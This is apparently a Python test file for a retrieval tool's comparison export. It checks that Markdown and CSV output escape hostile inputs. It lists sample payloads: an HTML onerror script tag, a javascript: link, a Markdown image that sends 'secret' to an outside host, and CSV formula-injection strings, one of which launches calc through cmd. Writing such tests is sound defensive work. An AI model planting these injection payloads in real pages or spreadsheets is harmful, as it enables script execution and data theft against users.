"""The grid as lines, Markdown and CSV: everything is text there, whatever it looks like."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.comparison_export import comparison_csv, comparison_lines, comparison_markdown
from rag.types import (
    Answer,
    Aspect,
    Cell,
    Citation,
    Claim,
    Comparison,
    Paper,
    Quote,
    Side,
    SideStatus,
    Source,
    Support,
    Timings,
    Usage,
)


def answer(text: str, label: str = "ZetaNet", aspect: str = "Approach", question: str = "Compare ZetaNet and GPTQ") -> Answer:
    """An answer with one stated and one silent row; `text` is the paper's only sentence."""
    paper = Paper("a" * 12, text, label, sources=(Source("pebbles.txt", 1),))
    claim = Claim(
        text, Support.SUPPORTED, "", (Citation(1, paper.id, Quote(paper.id, text, 0, len(text)), paper.source),), verbatim=True
    )
    comparison = Comparison(
        (Side(label, (paper.id,), SideStatus.FOUND, label), Side("GPTQ", (), SideStatus.ABSENT, "GPTQ")),
        (Aspect("approach", aspect), Aspect("results", "Results")),
        (Cell("approach", 0, claim), Cell("results", 0, None)),
    )
    return Answer(
        question, "comparative", False, "“GPTQ” is absent.", (claim,), (paper,), (paper.id,), "extractive", Usage(), Timings(),
        comparison=comparison,
    )  # fmt: skip


HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "![x](http://host/?q=secret)",
    "[click](javascript:alert(1))",
    "a | b || c",
    "two\nlines\r\nand\u2028more",
    "# heading",
    "`code` *bold* __x__",
    "back\\slash \\| pipe",
    "<!-- -->",
    "&lt;script&gt;",
)


def cells(line: str) -> list[str]:
    """The cells of a line of a Markdown table."""
    return re.split(r"(?<!\\)(?:\\\\)*\|", line)[1:-1]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_is_a_whole_table_without_tags_links_or_images(text: str) -> None:
    markdown = comparison_markdown(answer(text, label=text, aspect=text, question=text))
    table = [line for line in markdown.splitlines() if line.startswith("|")]
    assert len(table) == 4 and {len(cells(line)) for line in table} == {2}
    assert not re.search(r"(?<!\\)<|(?<!\\)!\[|(?<!\\)\]\(", markdown)
    assert "not stated in the abstract" in table[3]


@given(st.text(min_size=1, max_size=80), st.text(max_size=40))
def test_any_text_keeps_the_table_whole(text: str, aspect: str) -> None:
    markdown = comparison_markdown(answer(text, label=text, aspect=aspect))
    table = [line for line in markdown.split("\n") if line.startswith("|")]
    assert len(table) == 4 and {len(cells(line)) for line in table} == {2}
    assert not re.search(r"(?<!\\)(?:\\\\)*<", markdown)


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "＝1+1"])
def test_csv_has_no_formulas(text: str) -> None:
    rows = list(csv.reader(io.StringIO(comparison_csv(answer(text, label=text, aspect=text)), newline="")))
    assert [len(row) for row in rows] == [9, 9, 9]
    assert not any(value.lstrip().startswith(("=", "+", "-", "@", "＝")) for row in rows for value in row)


@given(st.text(min_size=1, max_size=80).filter(lambda text: "\x00" not in text and text.isprintable()))
def test_csv_reads_back(text: str) -> None:
    row = list(csv.reader(io.StringIO(comparison_csv(answer(text)), newline="")))[1]
    assert row[8].removeprefix("'") == text.removeprefix("'") and row[2:6] == [row[8], "supported", "a" * 12, "pebbles.txt#1"]
    assert (row[6], row[7]) == ("0", str(len(text)))


def test_lines_show_every_cell_with_its_number() -> None:
    lines = comparison_lines(answer("It sorts pebbles.")).splitlines()
    assert lines == ["Approach", "  ZetaNet: It sorts pebbles. [1]", "", "Results", "  ZetaNet: not stated in the abstract"]


def test_a_chinese_question_has_chinese_gaps() -> None:
    assert "摘要中未说明" in comparison_lines(answer("It sorts.", question="比较 ZetaNet 和 GPTQ 的方法"))
    assert "摘要中未说明" in comparison_markdown(answer("It sorts.", question="比较 ZetaNet 和 GPTQ 的方法"))


def test_papers_come_with_every_quote_and_its_place() -> None:
    markdown = comparison_markdown(answer("It sorts pebbles."))
    assert r"1. **ZetaNet** (pebbles.txt\#1)" in markdown and "“It sorts pebbles.” (0–17)" in markdown


def test_an_answer_without_a_grid_is_its_text() -> None:
    from dataclasses import replace

    plain = replace(answer("It sorts."), comparison=None, papers=(), claims=())
    assert comparison_lines(plain) == ""
    assert comparison_markdown(plain) == "# Compare ZetaNet and GPTQ\n\n“GPTQ” is absent.\n"
    assert comparison_csv(plain).count("\n") == 1
